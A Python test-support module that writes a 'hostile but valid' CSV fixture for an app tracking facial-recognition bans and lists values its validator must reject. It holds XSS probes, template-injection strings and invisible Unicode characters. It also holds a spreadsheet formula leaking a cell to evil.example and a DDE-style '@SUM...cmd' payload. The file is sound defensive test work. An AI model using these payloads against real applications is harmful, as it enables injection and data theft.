"""A hostile but valid dataset: attack strings in every free-text field the validator allows.

`tests/fixtures/hostile/` is written from this module (`python -m tests.support.hostile`) and a
test checks that the committed files still match it, so the strings the tests look for and the
strings in the files never drift apart. The places are real (real GEOIDs and points inside
them), so the map draws them; only their words are hostile. Run the app on it with
`FRT_DATA_DIR=tests/fixtures/hostile make run`.

`forbidden_cases()` lists what the rules refuse (script and data URLs, hidden and control
characters, a 10,000-character text): the tests write them into a copy and expect the
validator to name each one by file, line and column.
"""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from geo.records import FILES, MAX_NAME, MAX_NOTE, MAX_QUOTE, MAX_SUMMARY
from geo.vocabulary import MEASURE_STATUSES

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"

# --- the corpus ------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = "<svg onload=alert(1)>"
QUOTE_BREAK = "\"'><b>broken out</b><\"'"
TEMPLATE = "${alert(1)} `alert(1)` `${alert(1)}`"
CLOSERS = "</div></script></style></textarea></iframe>--><!--"
MD_LINK = "[x](javascript:alert(1))"
MATH = "$x$ and $$y^2$$"
MD_MISC = "**bold** _it_ # no heading ![img](https://example.org/x.png) | a | b |"
STREAMLIT_MD = ":red[red] :material/home: :smile: :blue-background[bg]"
ENTITIES = "&amp; &#60;b&#62; &quot; &copy;"
JINJA = "{{7*7}} {% raw %}{{ config }}"
ARABIC = "حظر التعرف على الوجه"
HEBREW = "איסור זיהוי פנים"
# Spaces that look like others (no-break, narrow no-break, soft hyphen): allowed; the
# zero-width ones (ZERO_WIDTH) are refused since issue 23 and are in forbidden_cases().
LOOKALIKE_SPACES = "no\u00a0break\u202fnarrow\u00adsoft"
ZERO_WIDTH = "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffend"
TAG_TEXT = "tag\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065end"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
CJK = "人脸识别禁令"
EMOJI = "🚫📷 👩🏽‍⚖️"
BACKSLASH = "C:\\path\\to\\x \\* \\$ \\<"
LINE_SEPARATOR = "before\u2028after\u2029end"  # a JavaScript line break, not a CSV one


def _long(unit: str, length: int) -> str:
    """`unit` repeated to exactly `length` characters, with no space at either end."""
    text = (unit * (length // len(unit) + 1))[:length]
    return text[:-1] + "x" if text.endswith(" ") else text


LONG_NAME = _long(f"{IMG} {CJK} ", MAX_NAME)
LONG_SUMMARY = _long(f"{SCRIPT} {MD_LINK} {TEMPLATE} ", MAX_SUMMARY)
LONG_QUOTE = _long(f"{IMG} {SVG} {ARABIC} {EMOJI} ", MAX_QUOTE)

# Valid http(s) links with hostile characters in them (no spaces: those are refused).
URL_BREAKOUT = "https://example.org/a?q=%22%3E&r=\"><svg/onload=alert(1)>&s='x'"
URL_MARKDOWN = "https://example.org/(x)[y]*z*_w_$m$"
URL_NEXT = "https://example.org/?next=javascript:alert(1)"
URL_UNICODE = "https://example.org/حظر/人脸"
URL_CLOSER = "https://example.org/#</script><script>alert(1)</script>"

# --- the rows --------------------------------------------------------------------------------

JURISDICTIONS: tuple[dict[str, str], ...] = (
    {"id": "ca-oakland", "name": SCRIPT, "level": "city", "state": "CA", "geoid": "0653000",
     "lat": "37.7921", "lon": "-122.2095", "note": f"{IMG} {ENTITIES}"},
    {"id": "ca-san-francisco", "name": IMG, "level": "city", "state": "CA",
     "geoid": "0667000", "lat": "37.7579", "lon": "-122.4457", "note": ""},
    {"id": "ma-boston", "name": f"{SVG} {QUOTE_BREAK}", "level": "city", "state": "MA",
     "geoid": "2507000", "lat": "42.3118", "lon": "-71.0839", "note": STREAMLIT_MD},
    {"id": "or-portland", "name": TEMPLATE, "level": "city", "state": "OR", "geoid": "4159000",
     "lat": "45.5429", "lon": "-122.6178", "note": CLOSERS},
    {"id": "ca-los-angeles", "name": f"{CJK} {EMOJI}", "level": "city", "state": "CA",
     "geoid": "0644000", "lat": "34.0207", "lon": "-118.2852", "note": LINE_SEPARATOR},
    {"id": "ny-new-york", "name": LONG_NAME, "level": "city", "state": "NY",
     "geoid": "3651000", "lat": "40.7297", "lon": "-73.8635", "note": JINJA},
    {"id": "wa-king-county", "name": f"{MD_LINK} {MATH}", "level": "county", "state": "WA",
     "geoid": "53033", "lat": "47.4907", "lon": "-121.8339", "note": MD_MISC},
    {"id": "ca-state", "name": f"{ARABIC} California", "level": "state", "state": "CA",
     "geoid": "06", "lat": "36.7783", "lon": "-119.4179", "note": BACKSLASH},
    {"id": "ma-state", "name": f"{HEBREW} {LOOKALIKE_SPACES}", "level": "state", "state": "MA",
     "geoid": "25", "lat": "42.2596", "lon": "-71.8083", "note": ""},
    {"id": "eu", "name": f"{ENTITIES} {JINJA}", "level": "supranational", "state": "",
     "geoid": "", "lat": "50.8503", "lon": "4.3517", "note": SCRIPT},
    {"id": "uk", "name": MD_MISC, "level": "country", "state": "", "geoid": "",
     "lat": "51.5072", "lon": "-0.1276", "note": MATH},
    # A body with no representative point (allowed outside the US): still listed everywhere.
    {"id": "un", "name": f"{BACKSLASH} {STREAMLIT_MD}", "level": "supranational",
     "state": "", "geoid": "", "lat": "", "lon": "", "note": "No point: it must not be lost."},
)  # fmt: skip


def _event(
    jid: str, day: str, status: str, summary: str, source: str, url: str, **extra: str
) -> dict[str, str]:
    return {
        "id": f"{jid}-{day}",
        "jurisdiction_id": jid,
        "date": day,
        "status": status,
        "measure": extra.get("measure", ""),
        "vote": extra.get("vote", ""),
        "summary": summary,
        "source_name": source,
        "source_url": url,
        "confidence": extra.get("confidence", "high"),
        "proposal": extra.get("proposal", ""),
        "read_url": extra.get("read_url", ""),
        "note": extra.get("note", ""),
    }


EVENTS: tuple[dict[str, str], ...] = (
    _event("ca-oakland", "2019-07-16", "banned", LONG_SUMMARY, SVG, URL_BREAKOUT,
           measure=SCRIPT, vote=IMG, read_url=URL_MARKDOWN, note=f"{SCRIPT} {MD_LINK}"),
    _event("ca-san-francisco", "2019-05", "pending", f"{MD_LINK} {MATH}", TEMPLATE,
           URL_MARKDOWN, confidence="medium"),
    _event("ca-san-francisco", "2019-05-14", "banned", f"{QUOTE_BREAK} {CLOSERS}",
           f"{ARABIC} {HEBREW}", URL_NEXT, measure=f"{CJK} {EMOJI}", vote=LOOKALIKE_SPACES),
    _event("ma-boston", "2020-06-24", "banned", f"{ENTITIES} {JINJA}", MD_MISC, URL_UNICODE,
           measure=STREAMLIT_MD, vote=BACKSLASH),
    _event("or-portland", "2020-09-09", "banned", f"{TEMPLATE} {LINE_SEPARATOR}", CLOSERS,
           URL_CLOSER, measure=MATH, vote=QUOTE_BREAK),
    _event("or-portland", "2023-03-01", "repealed", MD_MISC, SCRIPT,
           "https://example.org/portland-2023", confidence="low"),
    _event("ca-los-angeles", "2021-01", "using", f"{ARABIC} {LOOKALIKE_SPACES}", EMOJI,
           "https://example.org/la"),
    _event("ny-new-york", "2021-11", "pending", LONG_NAME, STREAMLIT_MD,
           "https://example.org/nyc", measure=LONG_NAME),
    _event("wa-king-county", "2021-06-01", "banned", f"{SVG} {HEBREW}", f"{MD_LINK} {MATH}",
           "https://example.org/king", measure=ENTITIES, vote=f"{TEMPLATE} {JINJA}"),
    _event("ca-state", "2019-10", "moratorium", BACKSLASH, f"{ENTITIES} {JINJA}",
           "https://example.org/ca", measure=f"{SVG} {MD_LINK}"),
    _event("ma-state", "2020-12", "pending", CLOSERS, QUOTE_BREAK, "https://example.org/ma",
           proposal="ma-bill"),
    _event("ma-state", "2021-06", "failed", f"{IMG} {MATH}", SVG, "https://example.org/ma-2",
           proposal="ma-bill", read_url=URL_BREAKOUT, note=f"{JINJA} {LOOKALIKE_SPACES}"),
    _event("eu", "2021-04-21", "pending", IMG, f"{IMG} {CJK}", "https://example.org/eu-1"),
    _event("eu", "2024-03-13", "restricted", STREAMLIT_MD, f"{SCRIPT} {SVG}",
           "https://example.org/eu-2", measure=TEMPLATE),
    _event("uk", "2020-08-11", "restricted", ENTITIES, f"{MD_MISC} {MATH}",
           URL_MARKDOWN, measure=f"{ARABIC} {HEBREW}"),
    _event("un", "2020-06", "pending", JINJA, f"{STREAMLIT_MD} {BACKSLASH} {TEMPLATE}",
           URL_BREAKOUT),
)  # fmt: skip


def _quote(
    qid: str, jid: str, day: str, speaker: str, text: str, source: str, url: str, **extra: str
) -> dict[str, str]:
    return {
        "id": qid,
        "jurisdiction_id": jid,
        "date": day,
        "speaker": speaker,
        "role": extra.get("role", ""),
        "stance": extra.get("stance", "supports_ban"),
        "text": text,
        "source_name": source,
        "source_url": url,
        "confidence": extra.get("confidence", "high"),
        "note": extra.get("note", ""),
        "read_url": extra.get("read_url", ""),
        "caveat": extra.get("caveat", ""),
    }


QUOTES: tuple[dict[str, str], ...] = (
    _quote("q-001", "ca-oakland", "2019-07-16", SCRIPT, IMG, SVG, URL_BREAKOUT,
           role=f"{MD_LINK} {MATH}", note=TEMPLATE, read_url=URL_NEXT),
    _quote("q-002", "ca-oakland", "2019-07-17", IMG, LONG_QUOTE, MD_MISC, URL_MARKDOWN,
           role=QUOTE_BREAK, stance="opposes_ban", confidence="medium", note=CLOSERS,
           caveat="via_other_outlet; date_approximate"),
    _quote("q-003", "ca-san-francisco", "2019-05-14", f"{SVG} {QUOTE_BREAK}",
           f"{TEMPLATE} {CLOSERS}", f"{ENTITIES} {JINJA}", URL_NEXT,
           role=STREAMLIT_MD, note=f"{ARABIC} {HEBREW}"),
    _quote("q-004", "ma-boston", "2020-06", f"{ARABIC} {HEBREW}", f"{MD_LINK} {MATH} {MD_MISC}",
           f"{CJK} {EMOJI}", URL_UNICODE, stance="neutral", confidence="low", caveat="copy_only"),
    _quote("q-005", "or-portland", "2020-09-09", f"{CJK} {EMOJI}", f"{ENTITIES} {JINJA}",
           LOOKALIKE_SPACES, URL_CLOSER, role=BACKSLASH, note=LINE_SEPARATOR),
    _quote("q-006", "wa-king-county", "2021-06-01", LOOKALIKE_SPACES, f"{STREAMLIT_MD} {BACKSLASH}",
           f"{TEMPLATE} {SCRIPT}", "https://example.org/king-q", role=f"{ARABIC} {EMOJI}"),
    _quote("q-007", "eu", "2021-04-21", MD_MISC, f"{ARABIC} {HEBREW} {LOOKALIKE_SPACES}",
           CLOSERS, "https://example.org/eu-q", role=IMG, note=MD_LINK),
    _quote("q-008", "un", "2020-06", f"{MD_LINK} {BACKSLASH}", LINE_SEPARATOR,
           f"{QUOTE_BREAK} {MATH}", URL_BREAKOUT, stance="neutral"),
)  # fmt: skip

TALLIES: tuple[dict[str, str], ...] = (
    {"id": "t-001", "date": "2020-12", "count": "3", "bound": "exact", "level": "state",
     "state": "", "compare_statuses": "banned moratorium restricted", "excludes": "eu",
     "counted": f"{SCRIPT} {MD_LINK}", "members": "CA; OR", "source_name": f"{SVG} {JINJA}",
     "source_url": URL_BREAKOUT, "read_url": URL_MARKDOWN, "note": f"{TEMPLATE} {ARABIC}"},
    {"id": "t-002", "date": "2021-06-01", "count": "4", "bound": "at_least", "level": "local",
     "state": "CA", "compare_statuses": "banned", "excludes": "",
     "counted": f"{ENTITIES} {QUOTE_BREAK}", "members": "ca-oakland",
     "source_name": f"{CLOSERS} {MATH}", "source_url": URL_NEXT, "read_url": "", "note": ""},
)  # fmt: skip

ROWS: dict[str, tuple[dict[str, str], ...]] = {
    "jurisdictions.csv": JURISDICTIONS,
    "events.csv": EVENTS,
    "quotes.csv": QUOTES,
    "tallies.csv": TALLIES,
    # A bill of ma-state is pending: its session says when it stops standing.
    "sessions.csv": (
        {
            "jurisdiction_id": "ma-state",
            "session": f"{SCRIPT} session",
            "start": "2019-01-02",
            "end": "2021-01-06",
            "source_name": f"{SVG} {JINJA}",
            "source_url": URL_NEXT,
            "read_url": "",
            "note": f"{TEMPLATE} {ARABIC}",
        },
        {
            "jurisdiction_id": "ma-state",
            "session": f"{MD_LINK} session",
            "start": "2021-01-06",
            "end": "2023-01-04",
            "source_name": f"{CLOSERS} {MATH}",
            "source_url": URL_CLOSER,
            "read_url": "",
            "note": "",
        },
    ),
}
# The files the corpus writes (the mirror list holds no text a page shows).
SPECS = tuple(spec for spec in FILES if spec.name in ROWS)


# Short strings a reader must see, literally, somewhere on the pages (each sits in a field
# that is drawn as text, not only inside a table's canvas).
VISIBLE = (SCRIPT, IMG, SVG, TEMPLATE, CLOSERS, MD_LINK, MATH, ENTITIES, JINJA, ARABIC, HEBREW,
           CJK, EMOJI, BACKSLASH, STREAMLIT_MD, MD_MISC, QUOTE_BREAK, LOOKALIKE_SPACES)  # fmt: skip


def csv_text(columns: Sequence[str], rows: Sequence[Mapping[str, str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row[column] for column in columns])
    return buffer.getvalue()


def _complete(row: Mapping[str, str], columns: Sequence[str]) -> dict[str, str]:
    """A row with the columns the corpus leaves to the codebook filled in as the validator
    reads them back (a download writes every column): a measure or bill covers all
    government, a bill proposes a ban, a place is a government."""
    status = row.get("status", "")
    defaults = {
        "scope": "government" if status in (*MEASURE_STATUSES, "pending") else "",
        "proposal_kind": "ban" if status == "pending" else "",
        "role": "government",
    }
    return {**{c: defaults[c] for c in columns if c in defaults}, **row}


ROWS = {spec.name: tuple(_complete(r, spec.columns) for r in ROWS[spec.name]) for spec in SPECS}


def fixture_texts() -> dict[str, str]:
    """File name -> the exact text of that file in tests/fixtures/hostile/."""
    return {spec.name: csv_text(spec.columns, ROWS[spec.name]) for spec in SPECS}


def write_fixture(folder: Path = FIXTURE) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in fixture_texts().items():
        (folder / name).write_text(text, encoding="utf-8", newline="")
    return folder


# --- what the rules refuse -------------------------------------------------------------------


@dataclass(frozen=True)
class Forbidden:
    """One refused value: put in `field` of row `row` (0-based) of `file`."""

    name: str
    file: str
    row: int
    field: str
    value: str
    reason: str


NOT_HTTP = "must be an http:// or https:// link"
HIDDEN = "must not contain spaces, control or invisible characters"


def forbidden_cases() -> tuple[Forbidden, ...]:
    long_text = _long("<img src=x onerror=alert(1)> ", 10_000)
    return (
        Forbidden("javascript-url", "events.csv", 0, "source_url", "javascript:alert(1)", NOT_HTTP),
        Forbidden("javascript-mixed-case", "events.csv", 1, "source_url",
                  "JavaScript:alert(1)", NOT_HTTP),
        Forbidden("javascript-leading-space", "events.csv", 2, "source_url",
                  " javascript:alert(1)", HIDDEN),
        Forbidden("javascript-tab", "events.csv", 3, "source_url", "java\tscript:alert(1)",
                  HIDDEN),
        Forbidden("data-url", "events.csv", 4, "source_url",
                  "data:text/html,<script>alert(1)</script>", NOT_HTTP),
        Forbidden("vbscript-url", "events.csv", 5, "source_url", "vbscript:msgbox(1)", NOT_HTTP),
        Forbidden("url-control-char", "quotes.csv", 0, "source_url",
                  "https://example.org/\x07", HIDDEN),
        Forbidden("url-bidi", "quotes.csv", 1, "source_url",
                  "https://example.org/\u202egpj.exe", HIDDEN),
        Forbidden("url-credentials", "quotes.csv", 2, "source_url",
                  "https://example.org@evil.example/", "is not a well-formed web address"),
        Forbidden("name-bidi-override", "jurisdictions.csv", 0, "name",
                  "Oak\u202eland", "contains the bidi control character U+202E"),
        Forbidden("summary-bidi-isolate", "events.csv", 6, "summary",
                  "A \u2066hidden\u2069 turn", "contains the bidi control character U+2066"),
        Forbidden("speaker-control-char", "quotes.csv", 3, "speaker",
                  "A\x1b[31mred", "contains the control character U+001B"),
        Forbidden("role-bell", "quotes.csv", 4, "role", "Ring\x07",
                  "contains the control character U+0007"),
        Forbidden("text-10000-chars", "quotes.csv", 5, "text", long_text,
                  f"is 10000 characters long; the limit is {MAX_QUOTE}"),
        Forbidden("note-10000-chars", "jurisdictions.csv", 1, "note", long_text,
                  f"is 10000 characters long; the limit is {MAX_NOTE}"),
        Forbidden("name-outer-space", "jurisdictions.csv", 2, "name", " Boston",
                  "has leading or trailing spaces"),
        Forbidden("name-zero-width", "jurisdictions.csv", 3, "name", ZERO_WIDTH,
                  "contains the zero-width character U+200B"),
        Forbidden("summary-tags", "events.csv", 7, "summary", TAG_TEXT,
                  "contains the invisible tag character U+E0069"),
        Forbidden("speaker-formula", "quotes.csv", 6, "speaker", FORMULA,
                  "starts with '=', which a spreadsheet reads as a formula; "
                  "start the text another way"),
        Forbidden("measure-formula-at", "events.csv", 8, "measure", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "starts with '@', which a spreadsheet reads as a formula; "
                  "start the text another way"),
        Forbidden("note-bidi-mark", "jurisdictions.csv", 4, "note", "left\u200fright",
                  "contains the bidi control character U+200F"),
        Forbidden("url-port-script", "events.csv", 9, "source_url",
                  "https://javascript:window.__x=118/",
                  "is not a well-formed web address (the port is not a number)"),
    )  # fmt: skip


def write_forbidden(folder: Path) -> list[str]:
    """The hostile fixture with every forbidden value in place; returns the expected problem
    lines (`file:line:column: field: reason`, paths relative to `folder`)."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = {name: [dict(row) for row in table] for name, table in ROWS.items()}
    cases = forbidden_cases()
    for case in cases:
        rows[case.file][case.row][case.field] = case.value
    expected = []
    for spec in SPECS:
        columns = spec.columns
        table = rows[spec.name]
        (folder / spec.name).write_text(csv_text(columns, table), encoding="utf-8", newline="")
        for case in (c for c in cases if c.file == spec.name):
            row = table[case.row]
            # Every row above is one line (no field holds a line break), after the header.
            line = case.row + 2
            before = columns[: columns.index(case.field)]
            prefix = csv_text(before, [row]).split("\n")[1] + "," if before else ""
            expected.append(f"{spec.name}:{line}:{len(prefix) + 1}: {case.field}: {case.reason}")
    return expected


if __name__ == "__main__":
    write_fixture(Path(sys.argv[1]) if len(sys.argv) > 1 else FIXTURE)
